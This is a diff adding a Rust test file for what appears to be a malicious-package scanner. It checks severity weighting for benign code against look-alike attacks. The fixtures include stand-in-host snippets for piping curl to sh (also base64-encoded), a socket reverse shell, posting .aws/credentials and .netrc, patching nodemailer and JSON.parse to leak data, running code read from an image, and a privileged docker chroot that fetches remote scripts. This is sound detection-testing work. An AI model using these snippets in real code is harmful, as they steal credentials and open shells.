@@ -1,0 +1,136 @@
+//! What draws of honest packages showed: acts that look like harm and are not, each beside the harm that it looks like.
+
+use super::*;
+use crate::model::Severity;
+
+fn weight(language: Language, code: &str, rule: &str) -> Option<Severity> {
+    let outcome = outcome(language, code);
+    let found = flows::judge(&outcome, false);
+    found.iter().filter(|f| f.rule.id == rule).map(|f| f.severity.unwrap_or(f.rule.severity)).max()
+}
+
+#[test]
+fn whether_a_variable_is_set_says_nothing_of_the_others() {
+    let code = |value: &str| {
+        format!("import os, requests\nCI = ['A', 'B']\nrequests.post('https://h.invalid/t', json={{'ci': {value}}})")
+    };
+    let sent = |value: &str| weight(Language::Python, &code(value), "flow-environment-sent");
+    assert_eq!(sent("any(e in os.environ for e in CI)"), None);
+    assert!(sent("dict(os.environ)") >= Some(Severity::High));
+}
+
+#[test]
+fn who_is_told_where_tells_what_it_was_told_to() {
+    let who = "const os = require('os'), https = require('https');\nconst who = [os.hostname(), process.cwd()];\n";
+    let sent = |rest: &str| weight(Language::JavaScript, &format!("{who}{rest}"), "flow-identity-sent");
+    assert_eq!(sent("fetch(settings.endpoint, {method: 'POST', body: who.join()})"), Some(Severity::Medium));
+    assert!(sent("fetch('https://h.invalid/x', {method: 'POST', body: who.join()})") >= Some(Severity::High));
+    let host = "import socket, os, requests\nrequests.get('http://' + socket.gethostname() + 'zkec.h.invalid/?1=' + os.getcwd())";
+    assert!(weight(Language::Python, host, "flow-identity-sent") >= Some(Severity::High));
+}
+
+#[test]
+fn what_is_copied_or_typed_in_is_not_started() {
+    let code = |last: &str| {
+        format!(
+            "const fs = require('fs'), cp = require('child_process');\n\
+             fetch('https://h.invalid/x').then(r => r.text()).then(t => {{\n\
+             fs.writeFileSync('/home/u/hosts.tmp', t);\n{last}\n}})"
+        )
+    };
+    let runs = |last: &str| weight(Language::JavaScript, &code(last), "flow-download-run");
+    assert!(runs("cp.exec('sudo cp /home/u/hosts.tmp /etc/hosts')") < Some(Severity::High));
+    assert!(runs("cp.exec('sudo sh /home/u/hosts.tmp')") >= Some(Severity::High));
+    assert!(runs("cp.exec('sudo cp /home/u/hosts.tmp /usr/bin/x; x')") >= Some(Severity::High));
+    assert!(runs("cp.spawnSync('/bin/bash', [], {cwd: t, stdio: 'inherit'})") < Some(Severity::High));
+    assert!(runs("cp.spawnSync('/bin/bash', ['/home/u/hosts.tmp'])") >= Some(Severity::High));
+}
+
+#[test]
+fn a_command_line_that_stands_there_hides_nothing() {
+    let hidden = |code: &str| {
+        let outcome = outcome(Language::Python, code);
+        outcome.events.iter().filter(|e| e.layer > 0).map(|e| e.quoted).collect::<Vec<_>>()
+    };
+    let plain = hidden("import os\nos.system('curl https://h.invalid/x | sh')");
+    assert!(!plain.is_empty() && plain.iter().all(|quoted| *quoted), "{plain:?}");
+    let decoded = "import base64, os\nos.system(base64.b64decode('Y3VybCBodHRwczovL2guaW52YWxpZC94IHwgc2g=').decode())";
+    assert!(hidden(decoded).iter().any(|quoted| !quoted));
+    let code = "exec(\"import os; os.system('curl https://h.invalid/x | sh')\")";
+    assert!(hidden(code).iter().any(|quoted| !quoted), "executed text that is no command line");
+}
+
+#[test]
+fn streams_that_end_nowhere_are_no_shell() {
+    let code = |what: &str| {
+        format!(
+            "import os, socket, sys\ns = socket.create_connection(('h.invalid', 1))\nos.dup2({what}, sys.stdout.fileno())\nos.system('/bin/sh')"
+        )
+    };
+    let tied = |what: &str| weight(Language::Python, &code(what), "flow-reverse-shell");
+    assert_eq!(tied("os.open(os.devnull, os.O_WRONLY)"), None);
+    assert!(tied("s.fileno()") >= Some(Severity::High));
+}
+
+#[test]
+fn a_key_for_a_place_that_settings_name() {
+    let code = |host: &str| {
+        format!(
+            "import requests\ndef submit(private_key, settings):\n    requests.post({host}, data={{'secret': private_key}})"
+        )
+    };
+    let sent = |host: &str| weight(Language::Python, &code(host), "flow-key-sent");
+    assert!(sent("'https://%s/api/siteverify' % settings.DOMAIN") < Some(Severity::High));
+    assert!(sent("'https://h.invalid/x'") >= Some(Severity::High));
+}
+
+#[test]
+fn code_is_found_whatever_its_call_looks_like() {
+    let runs = |code: &str, rule: &str| rules(Language::JavaScript, code).contains(&rule);
+    let read = "const fs = require('fs'), {Script} = require('vm');\nconst t = fs.readFileSync('a.png');\n";
+    for call in
+        ["new Script(t.toString(), {filename: 'x'}).runInThisContext()", "new Script(t.toString()).runInThisContext()"]
+    {
+        assert!(runs(&format!("{read}{call}"), "flow-code-from-carrier"), "{call}");
+    }
+    let hook = |of: &str, name: &str| {
+        format!(
+            "const o = {of}.{name};\n{of}.{name} = function (given, more) {{\n\
+             fetch('https://h.invalid/x', {{method: 'POST', body: JSON.stringify(given)}});\n\
+             return o.call(this, given, more);\n}};"
+        )
+    };
+    let mail = hook("mail", "createTransport");
+    assert!(runs(&format!("const mail = require('nodemailer');\n{mail}"), "flow-patched-client-tells"));
+    let parse = hook("JSON", "parse").replace("JSON.stringify(given)", "given");
+    assert!(runs(&parse, "flow-patched-client-tells"));
+}
+
+#[test]
+fn files_by_methods_that_are_handed_over() {
+    let code = |value: &str| {
+        format!(
+            "import requests\nfrom pathlib import Path as P\nd = {value}\nrequests.post('https://h.invalid/x', json=d)"
+        )
+    };
+    for value in [
+        "{p.name: p.read_text() for p in map(P.home().joinpath, ('.netrc', '.aws/credentials')) if p.exists()}",
+        "list(map(P.read_text, [P.home() / '.aws' / 'credentials']))",
+        "[p.open().read() for p in (P.home() / '.aws').iterdir()]",
+        "next(iter([P.home() / '.aws' / 'credentials'])).read_text()",
+    ] {
+        assert!(rules(Language::Python, &code(value)).contains(&"flow-credentials-sent"), "{value}");
+    }
+    let other = code("[p.read_text() for p in map(P.cwd().joinpath, ('a.txt',))]");
+    assert!(!rules(Language::Python, &other).contains(&"flow-credentials-sent"));
+}
+
+#[test]
+fn commands_that_carry_others() {
+    let runs = |code: &str| rules(Language::Shell, code).contains(&"flow-remote-code");
+    let fetched = "sh -c \"$(curl -fsS https://h.invalid/tune.sh)\"";
+    for carrier in ["timeout 60", "chroot /mnt", "docker run -d --privileged --pid host -v /:/mnt x chroot /mnt"] {
+        assert!(runs(&format!("#!/bin/sh\n{carrier} {fetched}")), "{carrier}");
+    }
+    assert!(!runs("#!/bin/sh\ndocker run --rm alpine sh -c \"$(cat tune.sh)\""));
+}
